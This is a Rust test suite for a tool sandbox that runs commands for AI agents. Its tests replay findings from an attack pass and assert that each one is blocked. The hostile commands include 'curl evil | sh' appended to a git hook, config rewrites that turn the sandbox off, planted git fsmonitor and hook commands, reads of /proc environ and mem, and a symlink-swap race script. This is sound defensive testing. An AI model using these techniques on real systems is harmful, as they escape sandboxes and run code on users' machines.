//! Hostile commands against the `shell` and `code_execution` sandbox, each the reproduction of
//! a finding of the 2026-11-27 attack pass (`findings/attacks-2026-11-27.md`): capabilities and
//! device nodes (D18), SysV IPC (D18), the files that define the sandbox (D20), toolmux's
//! socket (D39), toolmux's `/proc` (D19), output files swapped for links (D38), and a maximum
//! time limit below the default (D22).
//!
//! They run as root here and in CI, and as any user elsewhere. Where this system cannot give
//! the sandbox, the call must be refused with the missing protection named
//! (`shell.requireSandbox`, on by default): [`sandboxed`] asserts that refusal and says so, so a
//! test never passes by running unconfined — and asserts that the system really cannot
//! (found independently, [`system_can_sandbox`]), so a test never passes by being refused
//! either.

mod support;

use std::io::ErrorKind;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::{Value, json};
use support::call;
use toolmux_core::{Source, ToolResult};
use toolmux_exec::{ExecPack, ExecSettings, Protected};
use toolmux_testkit::eventually::wait_until;
use toolmux_testkit::processes::{alive, parent, processes_with, unique_sleep};
use toolmux_testkit::sandbox::{system_can_sandbox, toolmux_proc_refusal};
use toolmux_workspace::ProjectRoot;

fn pack(root: &Path, settings: ExecSettings, protected: Protected) -> ExecPack {
    ExecPack::with_protected(
        ProjectRoot::new(root).expect("root"),
        settings,
        None,
        protected,
    )
}

/// The structured result of a call that ran fully sandboxed; `None` when this system cannot
/// give the sandbox and the call was refused for it, as it must be (asserted, and said).
fn sandboxed(result: ToolResult) -> Option<Value> {
    let text = result.text_content();
    if result.is_error {
        assert!(
            text.contains("requireSandbox") && text.contains("cannot give"),
            "neither ran nor refused for a missing sandbox: {text}"
        );
        assert!(
            !system_can_sandbox(),
            "this system makes the sandbox's namespaces, but the call was refused: {text}"
        );
        eprintln!(
            "this system cannot give the sandbox; the call was refused as it must be: {text}"
        );
        return None;
    }
    let out = result.structured_content.expect("a structured result");
    assert_eq!(out["sandbox"]["namespaces"], "full", "{out}");
    assert!(
        matches!(
            out["sandbox"]["landlock"].as_str(),
            Some("full" | "partial")
        ),
        "{out}"
    );
    Some(out)
}

async fn shell(pack: &ExecPack, command: &str) -> Option<Value> {
    sandboxed(call(pack, "shell", json!({ "command": command })).await)
}

fn stdout(out: &Value) -> &str {
    out["stdout"].as_str().expect("stdout")
}

/// D18: as root the command kept every capability, made a block device (writing through it
/// escaped Landlock) and removed a SysV queue made outside.
#[tokio::test]
async fn no_capabilities_no_device_nodes_and_sysv_ipc_of_its_own() {
    let dir = tempfile::tempdir().expect("dir");
    let pack = pack(dir.path(), ExecSettings::default(), Protected::default());
    // A real SysV message queue outside the sandbox.
    let made = Command::new("ipcmk").arg("-Q").output().expect("ipcmk");
    assert!(made.status.success(), "{made:?}");
    let made = String::from_utf8_lossy(&made.stdout);
    let queue: u32 = made
        .trim()
        .rsplit(' ')
        .next()
        .and_then(|id| id.parse().ok())
        .unwrap_or_else(|| panic!("ipcmk said: {made}"));
    let command = format!(
        "grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status; \
         mknod ./chr c 1 3 && echo MADE-CHAR; mknod ./blk b 7 0 && echo MADE-BLOCK; \
         ipcs -q; ipcrm -q {queue} && echo REMOVED-QUEUE; echo done"
    );
    let out = shell(&pack, &command).await;
    let still_there = Command::new("ipcs")
        .args(["-q", "-i", &queue.to_string()])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .expect("ipcs")
        .success();
    let removed = Command::new("ipcrm")
        .args(["-q", &queue.to_string()])
        .status()
        .expect("ipcrm");
    let Some(out) = out else { return };
    let text = stdout(&out);
    assert!(text.ends_with("done\n"), "{out}");
    for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert!(
            text.contains(&format!("{set}:\t0000000000000000")),
            "{set} is not empty: {out}"
        );
    }
    assert!(!text.contains("MADE-"), "a device node was made: {out}");
    assert!(!dir.path().join("chr").exists() && !dir.path().join("blk").exists());
    assert!(
        !text.contains(&format!(" {queue} ")),
        "the command saw the queue made outside: {out}"
    );
    assert!(!text.contains("REMOVED-QUEUE"), "{out}");
    assert!(still_there, "the command removed a queue made outside");
    assert!(removed.success());
}

/// A project as toolmux meets it: `.toolmux/` with its configuration and state, a registry
/// elsewhere in the root, a repository.
struct Project {
    dir: tempfile::TempDir,
    config: PathBuf,
    registry: PathBuf,
    hook: PathBuf,
}

const CONFIG: &str = "{\"policies\":{\"tools\":{\"shell\":\"allow\"}}}\n";
const REGISTRY: &str = "{\"mcpServers\":{}}\n";

fn project() -> Project {
    let dir = tempfile::tempdir().expect("dir");
    let root = dir.path();
    std::fs::create_dir_all(root.join(".toolmux/state")).expect(".toolmux");
    std::fs::create_dir_all(root.join("backend")).expect("backend");
    std::fs::create_dir_all(root.join(".git/hooks")).expect(".git");
    let config = root.join(".toolmux/config.json");
    std::fs::write(&config, CONFIG).expect("config");
    let registry = root.join("backend/mcp.json");
    std::fs::write(&registry, REGISTRY).expect("registry");
    let hook = root.join(".git/hooks/pre-commit");
    std::fs::write(&hook, "#!/bin/sh\n").expect("hook");
    Project {
        dir,
        config,
        registry,
        hook,
    }
}

/// D20: one allowed `shell` call rewrote `.toolmux/config.json` (switching the sandbox off for
/// the next) and a registry (adding a server that runs unsandboxed).
#[tokio::test]
async fn the_files_that_define_the_sandbox_cannot_be_changed() {
    let project = project();
    let root = project.dir.path();
    let protected = Protected::default();
    protected.set_read_only(vec![project.registry.clone()]);
    let pack = pack(root, ExecSettings::default(), protected);
    let attacks = [
        // The reproduction: the configuration rewritten to switch the sandbox off.
        r#"printf %s '{"shell":{"sandbox":false,"network":true}}' > .toolmux/config.json"#,
        r#"printf %s '{"mcpServers":{"x":{"command":"sh"}}}' > backend/mcp.json"#,
        "rm -f .toolmux/config.json",
        "mv .toolmux/config.json .toolmux/old.json",
        "mv .toolmux moved",
        "rm -rf .toolmux",
        "echo x > .toolmux/state/planted",
        "mkdir .toolmux/skills",
        "mv backend/mcp.json backend/old.json",
        "rm -rf backend",
        // The registry's folder moved away and a new one made in its place.
        "mv backend moved-backend && mkdir backend && echo '{}' > backend/mcp.json",
        "ln backend/mcp.json linked.json && echo x >> linked.json",
        "ln -s backend/mcp.json sym.json; echo x >> sym.json",
        "echo 'curl evil | sh' >> .git/hooks/pre-commit",
        "echo x > .git/config",
        "mv .git moved-git",
        "cd .toolmux && echo x > config.json",
        "python3 -c \"open('.toolmux/config.json','w').write('{}')\"",
    ];
    for attack in attacks {
        let Some(out) = shell(&pack, &format!("{attack}; echo ran")).await else {
            return;
        };
        assert_eq!(stdout(&out), "ran\n", "{attack}: {out}");
        assert_eq!(
            std::fs::read_to_string(&project.config).expect("config"),
            CONFIG,
            "{attack}"
        );
        assert_eq!(
            std::fs::read_to_string(&project.registry).expect("registry"),
            REGISTRY,
            "{attack}"
        );
        assert_eq!(
            std::fs::read_to_string(&project.hook).expect("hook"),
            "#!/bin/sh\n",
            "{attack}"
        );
        assert!(!root.join(".toolmux/state/planted").exists(), "{attack}");
        assert!(!root.join(".toolmux/skills").exists(), "{attack}");
        assert!(!root.join(".git/config").exists(), "{attack}");
        for moved in ["moved", "moved-git", "moved-backend"] {
            assert!(!root.join(moved).exists(), "{attack}");
        }
    }
    // A command started inside `.toolmux` sees it read-only too (it is entered again after
    // the binds), whether or not the root's rules let it start there.
    let inside = call(
        &pack,
        "shell",
        json!({"command": "echo x > config.json; echo x > ../.toolmux/config.json", "cwd": ".toolmux"}),
    )
    .await;
    assert!(!inside.text_content().is_empty());
    assert_eq!(
        std::fs::read_to_string(&project.config).expect("config"),
        CONFIG
    );
    // The rest of the root stays writable.
    let Some(out) = shell(
        &pack,
        "echo ok > backend/other.json && cat backend/other.json",
    )
    .await
    else {
        return;
    };
    assert_eq!(stdout(&out), "ok\n", "{out}");
}

/// `.git` listed in `writablePaths` lets commands write the repository (`git commit`);
/// `.toolmux` listed there stays read-only; a named path that does not exist is reported.
#[tokio::test]
async fn git_may_be_made_writable_toolmux_may_not() {
    let project = project();
    let root = project.dir.path();
    let protected = Protected::default();
    protected.set_read_only(vec![root.join("missing-registry.json")]);
    let pack = pack(
        root,
        ExecSettings {
            writable_paths: vec![".git".into(), ".toolmux".into()],
            ..ExecSettings::default()
        },
        protected,
    );
    let Some(out) = shell(
        &pack,
        "echo ref > .git/ORIG_HEAD; echo '[core]' > .git/config; \
         echo evil >> .git/hooks/pre-commit; echo x > .toolmux/config.json; echo ran",
    )
    .await
    else {
        return;
    };
    assert_eq!(stdout(&out), "ran\n", "{out}");
    assert_eq!(
        std::fs::read_to_string(root.join(".git/ORIG_HEAD")).expect(".git/ORIG_HEAD"),
        "ref\n"
    );
    // Found in review: even a writable `.git` keeps its hooks and `config` read-only, since
    // toolmux's own unsandboxed `git` runs them; the missing `config` was made empty for it.
    assert_eq!(
        std::fs::read_to_string(root.join(".git/config")).expect(".git/config"),
        ""
    );
    assert_eq!(
        std::fs::read_to_string(&project.hook).expect("hook"),
        "#!/bin/sh\n"
    );
    assert_eq!(
        std::fs::read_to_string(&project.config).expect("config"),
        CONFIG
    );
    let notes = out["sandbox"]["notes"].to_string();
    assert!(
        notes.contains("missing-registry.json") && notes.contains("does not exist"),
        "{notes}"
    );
}

/// Found in review of issue 28: with `.git` writable, its hooks and configuration were kept
/// read-only only when they existed, so a command could create `.git/hooks/post-checkout`
/// (or a `.git/config` naming `core.hooksPath`) where there was none, and toolmux's own
/// unsandboxed `git` ran it. They are made empty first, and bound read-only like existing ones.
#[tokio::test]
async fn a_writable_git_without_hooks_gets_no_planted_hook() {
    let dir = tempfile::tempdir().expect("dir");
    let root = dir.path();
    std::fs::create_dir(root.join(".git")).expect(".git");
    std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/main\n").expect("HEAD");
    let pack = pack(
        root,
        ExecSettings {
            writable_paths: vec![".git".into()],
            ..ExecSettings::default()
        },
        Protected::default(),
    );
    let command = "{ echo '#!/bin/sh' > .git/hooks/post-checkout; \
                   printf '[core]\\n\\thooksPath = /tmp\\n' > .git/config; rmdir .git/hooks; \
                   mv .git/config .git/old-config; echo x > .git/ORIG_HEAD && echo wrote; } 2>&1";
    let Some(out) = shell(&pack, command).await else {
        return;
    };
    assert_eq!(
        stdout(&out),
        "bash: line 1: .git/hooks/post-checkout: Read-only file system\n\
         bash: line 1: .git/config: Read-only file system\n\
         rmdir: failed to remove '.git/hooks': Device or resource busy\n\
         mv: cannot move '.git/config' to '.git/old-config': Device or resource busy\n\
         wrote\n",
        "{out}"
    );
    assert_eq!(
        std::fs::read_dir(root.join(".git/hooks"))
            .expect("hooks")
            .count(),
        0
    );
    assert_eq!(
        std::fs::read_to_string(root.join(".git/config")).expect("config"),
        ""
    );
    let notes = out["sandbox"]["notes"].to_string();
    for made in [".git/hooks", ".git/config"] {
        assert!(
            notes.contains(&format!("{made}` did not exist: it was made empty")),
            "{notes}"
        );
    }
}

/// Found in review of issue 28: with `.git` writable and its hooks and `config` read-only, a
/// command wrote `.git/commondir` naming a folder of its own, whose `config` sets
/// `core.fsmonitor`: the next `git status` outside the sandbox (the user's, or toolmux's own
/// in a session's worktree) read that configuration and ran the command. `commondir`,
/// `config.worktree` and `worktrees` are kept read-only too, made first where missing as git
/// reads "nothing there".
#[tokio::test]
async fn a_writable_git_cannot_be_sent_to_another_common_dir() {
    let dir = tempfile::tempdir().expect("dir");
    let root = dir.path();
    let git = |args: &[&str]| {
        Command::new("git")
            .args(args)
            .current_dir(root)
            .env_remove("GIT_DIR")
            .env_remove("GIT_COMMON_DIR")
            .output()
            .expect("git runs")
    };
    assert!(git(&["init", "-q"]).status.success());
    let pack = pack(
        root,
        ExecSettings {
            writable_paths: vec![".git".into()],
            ..ExecSettings::default()
        },
        Protected::default(),
    );
    // `LC_ALL=C`: mkdir quotes the path as the locale says.
    let command = "export LC_ALL=C; { mkdir -p evil/objects evil/refs evil/hooks; \
                   printf '[core]\\n\\tfsmonitor = touch pwned\\n' > evil/config; \
                   echo \"$PWD/evil\" > .git/commondir; \
                   printf '[core]\\n\\tfsmonitor = touch pwned\\n' > .git/config.worktree; \
                   mkdir .git/worktrees/planted; echo x > .git/ORIG_HEAD && echo wrote; } 2>&1";
    let Some(out) = shell(&pack, command).await else {
        return;
    };
    assert_eq!(
        stdout(&out),
        "bash: line 1: .git/commondir: Read-only file system\n\
         bash: line 1: .git/config.worktree: Read-only file system\n\
         mkdir: cannot create directory '.git/worktrees/planted': Read-only file system\n\
         wrote\n",
        "{out}"
    );
    assert_eq!(
        std::fs::read_to_string(root.join(".git/commondir")).expect("commondir"),
        "."
    );
    assert_eq!(
        std::fs::read_to_string(root.join(".git/config.worktree")).expect("config.worktree"),
        ""
    );
    // git outside the sandbox reads the placeholders as nothing there, and runs nothing.
    let status = git(&["status", "--porcelain"]);
    assert!(
        status.status.success(),
        "{}",
        String::from_utf8_lossy(&status.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&status.stdout), "?? evil/\n");
    assert!(
        !root.join("pwned").exists(),
        "git ran the planted fsmonitor"
    );
    let notes = out["sandbox"]["notes"].to_string();
    for (made, how) in [
        (".git/config.worktree", "made empty"),
        (".git/commondir", "made naming `.git` itself (`.`)"),
        (".git/worktrees", "made empty"),
    ] {
        assert!(
            notes.contains(&format!("{made}` did not exist: it was {how}")),
            "{notes}"
        );
    }
}

/// Found in review of issue 28: what decides which commands git runs was kept read-only only
/// where it existed, and a link at `.git/hooks` to a folder that did not exist yet was
/// "missing" — so a command made the folder the link names, planted a hook in it, and git
/// outside the sandbox ran it. Whether `.git` is writable or not, a call is refused while a
/// protected path is a link to nothing (no mount can cover it), and a link to something is
/// covered where it points.
#[tokio::test]
async fn a_link_at_git_hooks_cannot_be_followed_out_of_the_sandbox() {
    let dir = tempfile::tempdir().expect("dir");
    let root = dir.path().canonicalize().expect("canonical");
    std::fs::create_dir(root.join(".git")).expect(".git");
    std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/main\n").expect("HEAD");
    let evil = root.join("evil-hooks");
    std::os::unix::fs::symlink(&evil, root.join(".git/hooks")).expect("link");
    let plant = "mkdir -p evil-hooks && echo '#!/bin/sh' > evil-hooks/post-checkout; echo ran";
    for writable_paths in [vec![], vec![PathBuf::from(".git")]] {
        let settings = ExecSettings {
            writable_paths,
            ..ExecSettings::default()
        };
        let pack = pack(&root, settings, Protected::default());
        let result = call(&pack, "shell", json!({ "command": plant })).await;
        if !system_can_sandbox() {
            // Refused for the missing sandbox, which is what protects the paths at all.
            assert!(sandboxed(result).is_none());
            return;
        }
        assert!(result.is_error, "{}", result.text_content());
        assert_eq!(
            result.text_content(),
            format!(
                "not run: `{hooks}` is a link to `{target}`, which does not exist, so the \
                 sandbox cannot keep it read-only and a command could create it there. Remove \
                 the link (or make what it names) and ask again",
                hooks = root.join(".git/hooks").display(),
                target = evil.display(),
            )
        );
        assert!(!evil.exists(), "the command made the link's target");
    }
    // Once what it names exists, it is bound read-only where it is.
    std::fs::create_dir(&evil).expect("the hooks folder");
    let pack = pack(&root, ExecSettings::default(), Protected::default());
    let Some(out) = shell(&pack, &format!("{{ {plant}; }} 2>&1")).await else {
        return;
    };
    assert_eq!(
        stdout(&out),
        "bash: line 1: evil-hooks/post-checkout: Read-only file system\nran\n",
        "{out}"
    );
    assert_eq!(std::fs::read_dir(&evil).expect("hooks").count(), 0);
}

/// Issue 28: the process toolmux starts is the relay of the command's PID namespace, which
/// forks the namespace's init; killed from outside while the init waits for the command, it
/// was reported as the command dying of SIGKILL. Now the call fails saying what happened, and
/// the namespace's processes — one in the call's group, one that left it with `setsid` — were
/// all killed: nothing waits for them, and they end.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn killing_the_sandbox_relay_ends_the_command_and_says_so() {
    let dir = tempfile::tempdir().expect("dir");
    let pack = pack(dir.path(), ExecSettings::default(), Protected::default());
    let sleep = unique_sleep();
    let command = format!("setsid sleep {sleep} & sleep {sleep}; echo unreachable");
    let call_task = {
        let pack = pack.clone();
        tokio::spawn(async move { call(&pack, "shell", json!({ "command": command })).await })
    };
    if !system_can_sandbox() {
        assert!(sandboxed(call_task.await.expect("the call")).is_none());
        return;
    }
    let marker = format!("sleep\0{sleep}");
    wait_until("both sleeps run", || processes_with(&marker).len() == 2);
    // From a sleep up to this process (toolmux here): bash, the init, the relay.
    let us = std::process::id();
    let mut chain = processes_with(&marker);
    while let Some(up) = chain.last().copied().and_then(parent).filter(|&p| p != us) {
        assert!(up > 1, "{chain:?} does not lead to this process");
        chain.push(up);
    }
    let relay = *chain.last().expect("the relay");
    assert!(chain.len() >= 5, "sleeps, bash, init and relay: {chain:?}");
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(i32::try_from(relay).expect("a pid")),
        nix::sys::signal::Signal::SIGKILL,
    )
    .expect("kill the relay");
    // A bound only so that a hang fails here instead of holding the suite.
    let result = tokio::time::timeout(Duration::from_secs(60), call_task)
        .await
        .expect("the call ended")
        .expect("the call's task");
    assert!(result.is_error, "{}", result.text_content());
    assert_eq!(
        result.text_content(),
        "the command's end is unknown: the process that relays it out of the sandbox was \
         killed from outside toolmux (SIGKILL) while the command ran; the command and \
         everything it started were stopped"
    );
    // Each was sent SIGKILL before the call returned (the init's death takes the namespace,
    // the `setsid` one included, with it); dying takes a moment on a loaded machine.
    wait_until(
        "the relay, the init and the command's processes end",
        || chain.iter().all(|&pid| !alive(pid)),
    );
}

/// D39: with `serve --socket tm.sock` in the project, a network-less command reached toolmux
/// through its socket.
#[tokio::test]
async fn toolmux_socket_is_unreachable() {
    let dir = tempfile::tempdir().expect("dir");
    let socket = dir.path().join("tm.sock");
    let listener = UnixListener::bind(&socket).expect("bind");
    listener.set_nonblocking(true).expect("non-blocking");
    let connect = "python3 -c \"import socket,sys; s=socket.socket(socket.AF_UNIX); \
                   s.connect(sys.argv[1]); print('CONNECTED')\"";
    // Without the socket named, the same command reaches it: the test can see a connection.
    let open = pack(dir.path(), ExecSettings::default(), Protected::default());
    if let Some(out) = shell(&open, &format!("{connect} tm.sock")).await {
        assert_eq!(stdout(&out), "CONNECTED\n", "{out}");
        wait_until("the control connection", || listener.accept().is_ok());
    }
    let protected = Protected::default();
    protected.hide(socket.clone());
    let pack = pack(dir.path(), ExecSettings::default(), protected);
    let attempts = format!(
        "{connect} tm.sock; {connect} \"$PWD/tm.sock\"; ln tm.sock other.sock; \
         {connect} other.sock; curl -s -m 2 --unix-socket tm.sock http://x/ && echo CURLED; \
         echo done"
    );
    let Some(out) = shell(&pack, &attempts).await else {
        return;
    };
    assert_eq!(stdout(&out), "done\n", "{out}");
    assert_eq!(
        listener.accept().map(|_| ()).map_err(|e| e.kind()),
        Err(ErrorKind::WouldBlock),
        "the socket saw a connection"
    );
    assert!(!dir.path().join("other.sock").exists());
}

/// D19: the command read toolmux's whole environment from `/proc/$PPID/environ`. The test
/// process is toolmux here. In its own PID namespace the command's parent is the namespace's
/// init, a fork of toolmux holding a copy of its memory, which it may not read either.
#[tokio::test]
async fn toolmux_proc_environ_is_unreadable() {
    let dir = tempfile::tempdir().expect("dir");
    let pack = pack(dir.path(), ExecSettings::default(), Protected::default());
    let us = std::process::id();
    let command = format!(
        "echo ppid=$PPID; for f in /proc/{us}/environ /proc/{us}/mem /proc/$PPID/environ \
         /proc/$PPID/mem /proc/$PPID/task/1/environ; do \
         echo \"$f: $(head -c 16 \"$f\" 2>&1 >/dev/null | sed 's/^head: .*: //')\"; done"
    );
    let Some(out) = shell(&pack, &command).await else {
        return;
    };
    let toolmux = toolmux_proc_refusal(&out["sandbox"]["notes"].to_string());
    assert_eq!(
        stdout(&out),
        format!(
            "ppid=1\n/proc/{us}/environ: {toolmux}\n/proc/{us}/mem: {toolmux}\n\
             /proc/1/environ: Permission denied\n/proc/1/mem: Permission denied\n\
             /proc/1/task/1/environ: Permission denied\n"
        ),
        "{out}"
    );
}

/// Found in review of issue 28: below Landlock ABI 6 nothing kept signals in, so a command
/// could stop toolmux (or any process of the user). In its own PID namespace no process
/// outside has a number: `kill` says "No such process" on every kernel, and nothing stops.
/// A `kill -CONT` follows each `kill -STOP` that worked, so that the old code fails here
/// rather than leaving the test stopped.
#[tokio::test]
async fn a_shell_command_cannot_signal_toolmux() {
    let dir = tempfile::tempdir().expect("dir");
    let pack = pack(dir.path(), ExecSettings::default(), Protected::default());
    let us = std::process::id();
    let parent = std::os::unix::process::parent_id();
    let mut other = Command::new("sleep")
        .arg("300")
        .stdin(Stdio::null())
        .spawn()
        .expect("another process of the user");
    let pids = [us, parent, other.id()];
    let command = format!(
        "for pid in {} {} {}; do kill -0 $pid 2>&1; kill -STOP $pid 2>&1 && kill -CONT $pid; \
         done; echo done",
        pids[0], pids[1], pids[2]
    );
    let out = shell(&pack, &command).await;
    let states: Vec<String> = pids.iter().map(|pid| state(*pid)).collect();
    let _ = other.kill();
    let _ = other.wait();
    let Some(out) = out else { return };
    let refused: String = pids
        .iter()
        .map(|pid| format!("bash: line 1: kill: ({pid}) - No such process\n").repeat(2))
        .collect();
    assert_eq!(stdout(&out), format!("{refused}done\n"), "{out}");
    for (pid, state) in pids.iter().zip(&states) {
        assert!(matches!(state.as_str(), "R" | "S"), "{pid} is {state}");
    }
}

/// The state letter of process `pid` (`S` sleeping, `T` stopped), from `/proc/<pid>/stat`.
fn state(pid: u32) -> String {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).expect("stat");
    stat.rsplit_once(") ")
        .and_then(|(_, rest)| rest.split(' ').next())
        .expect("a state")
        .to_string()
}

/// D38: `code_execution` listed an output file as regular (1 byte), then read the path, which a
/// process left behind had swapped for a link to a large file (10–23 GB inlined). Here a
/// real swapper process exchanges 40 files with links to a 2 MB file (renameat2
/// RENAME_EXCHANGE) from the moment the listing starts, while it walks 3000 empty folders
/// between listing the files and reading them (the old code inlined megabytes every run).
#[tokio::test]
async fn output_files_swapped_for_links_are_never_followed() {
    let dir = tempfile::tempdir().expect("dir");
    let outside = tempfile::tempdir().expect("outside");
    let big = outside.path().join("big.txt");
    std::fs::write(&big, "ESCAPED\n".repeat(256 * 1024)).expect("big");
    let pack = pack(dir.path(), ExecSettings::default(), Protected::default());
    let code = format!(
        r#"import os, time
out = os.environ["OUTPUT_DIR"]
for i in range(40):
    open(f"{{out}}/f{{i}}.txt", "w").write("x")
    os.symlink({big:?}, f"{{out}}/l{{i}}.txt")
# Empty folders, walked after the files are listed: the swapper's window, on any machine.
for i in range(3000):
    os.mkdir(f"{{out}}/d{{i}}")
open("ready.tmp", "w").write(out)
os.rename("ready.tmp", "ready")
deadline = time.time() + 30
while not os.path.exists(f"{{out}}/started") and time.time() < deadline:
    time.sleep(0.01)
print("swapping" if os.path.exists(f"{{out}}/started") else "no swapper")
"#,
        big = big.display().to_string()
    );
    let task = {
        let pack = pack.clone();
        tokio::spawn(async move {
            call(
                &pack,
                "code_execution",
                json!({"language": "python", "code": code}),
            )
            .await
        })
    };
    let ready = dir.path().join("ready");
    let finished_early = tokio::task::spawn_blocking({
        let ready = ready.clone();
        move || wait_until_or_refused(&ready)
    });
    if !finished_early.await.expect("waiter") {
        // Refused: the call ended without starting.
        sandboxed(task.await.expect("the call"));
        return;
    }
    let output_dir = std::fs::read_to_string(&ready).expect("ready");
    let python = std::env::var("TOOLMUX_TEST_PYTHON").unwrap_or_else(|_| "python3".into());
    let mut swapper = Command::new(python)
        .args(["-c", SWAPPER, &output_dir])
        .stdin(Stdio::null())
        .spawn()
        .expect("the swapper");
    let result = task.await.expect("the call");
    // The swapper ends once the temp dir is gone (ENOENT); kill it in case it has not.
    let _ = swapper.kill();
    let _ = swapper.wait();
    let Some(out) = sandboxed(result.clone()) else {
        return;
    };
    assert_eq!(stdout(&out), "swapping\n", "{out}");
    let files = out["files"].as_array().expect("files");
    // f0..f39, l0..l39 and the swapper's `started`.
    assert_eq!(files.len(), 81, "{out}");
    let inlined: usize = files
        .iter()
        .filter_map(|f| f["text"].as_str())
        .map(str::len)
        .sum();
    assert!(inlined <= 64 * 1024, "{inlined} bytes inlined");
    for file in files {
        if let Some(text) = file["text"].as_str() {
            let expected = if file["path"] == "started" { "" } else { "x" };
            assert_eq!(text, expected, "a link was followed: {}", file["path"]);
        }
    }
    let whole = result.text_content();
    assert!(!whole.contains("ESCAPED"), "the link's target was inlined");
    assert!(whole.len() < 64 * 1024, "{} bytes of result", whole.len());
}

/// Exchanges `f<i>.txt` with `l<i>.txt` in the directory given, from the moment toolmux opens
/// that directory to list it (an inotify watch: a process blocked on it runs as soon as the
/// listing starts, even on a busy machine) for two seconds or until the directory is gone.
/// Says it is watching by making `started` there.
const SWAPPER: &str = r#"import ctypes, os, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
IN_OPEN, IN_ISDIR = 0x20, 0x40000000
out = sys.argv[1]
fd = libc.inotify_init1(0)
if fd < 0 or libc.inotify_add_watch(fd, out.encode(), IN_OPEN) < 0:
    sys.exit("inotify: errno %d" % ctypes.get_errno())
pairs = [(f"{out}/f{i}.txt".encode(), f"{out}/l{i}.txt".encode()) for i in range(40)]
open(f"{out}/started", "w").close()
listing = False
while not listing:
    data = os.read(fd, 65536)
    while data:
        wd, mask, cookie, length = struct.unpack_from("iIII", data)
        listing = listing or (mask & IN_ISDIR and length == 0)
        data = data[16 + length:]
# Long enough for any listing of 81 files and 3000 folders; short enough not to hold up the
# removal of the call's temp dir, which competes with the swapper for the folder's lock.
deadline = time.time() + 2
while time.time() < deadline:
    for a, b in pairs:
        if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
            sys.exit(0)
"#;

/// Waits for `ready` (the code is about to wait for the swapper); false when the call was
/// refused instead and never made it.
fn wait_until_or_refused(ready: &Path) -> bool {
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while !ready.exists() {
        if std::time::Instant::now() > deadline {
            return false;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    true
}

/// D22: `maxTimeoutMs` below the default time limit was silently raised to it.
#[tokio::test]
async fn the_maximum_time_limit_is_never_raised() {
    let shell_settings = toolmux_config::ShellSettings {
        max_timeout_ms: std::num::NonZeroU64::new(500).expect("not zero"),
        ..toolmux_config::ShellSettings::default()
    };
    let settings = ExecSettings::from_config(&shell_settings);
    assert_eq!(settings.max_timeout, Duration::from_millis(500));
    assert_eq!(settings.timeout, Duration::from_millis(500));
    let dir = tempfile::tempdir().expect("dir");
    let pack = pack(dir.path(), settings, Protected::default());
    let tool = pack
        .tools()
        .into_iter()
        .find(|t| t.name == "shell")
        .expect("shell");
    assert_eq!(
        tool.input_schema["properties"]["timeoutMs"]["description"],
        "Time limit in milliseconds (at most 500)."
    );
    let asked = call(
        &pack,
        "shell",
        json!({"command": "sleep 60", "timeoutMs": 99_999_999u64}),
    )
    .await;
    let Some(out) = sandboxed(asked) else { return };
    assert_eq!(out["timedOut"], true, "{out}");
}

/// Issue 26: a call made without the hub (the command line's, a script's) has its arguments
/// read through the tool's input struct, the one its schema is derived from: a misspelt or
/// mistyped argument is refused with the field named, and nothing runs — it was ignored, and
/// the command ran with the default in its place.
#[tokio::test]
async fn arguments_that_do_not_fit_the_input_struct_are_refused_before_anything_runs() {
    let dir = tempfile::tempdir().expect("dir");
    let pack = pack(dir.path(), ExecSettings::default(), Protected::default());
    let cases = [
        (
            "shell",
            json!({"command": "touch ran", "cwdd": "src"}),
            "`cwdd`: unknown field `cwdd`, expected one of `command`, `cwd`, `timeoutMs`, `network`",
        ),
        (
            "shell",
            json!({"command": "touch ran", "timeoutMs": "soon"}),
            "`timeoutMs`: invalid type: string \"soon\", expected u64",
        ),
        (
            "code_execution",
            json!({"language": "ruby", "code": "touch ran"}),
            "`language`: unknown variant `ruby`, expected one of `python`, `bash`, `typescript`",
        ),
    ];
    for (tool, arguments, refusal) in cases {
        let result = call(&pack, tool, arguments).await;
        assert!(result.is_error, "{tool}: {}", result.text_content());
        assert_eq!(result.text_content(), refusal, "{tool}");
    }
    assert!(!dir.path().join("ran").exists(), "a refused call ran");
}
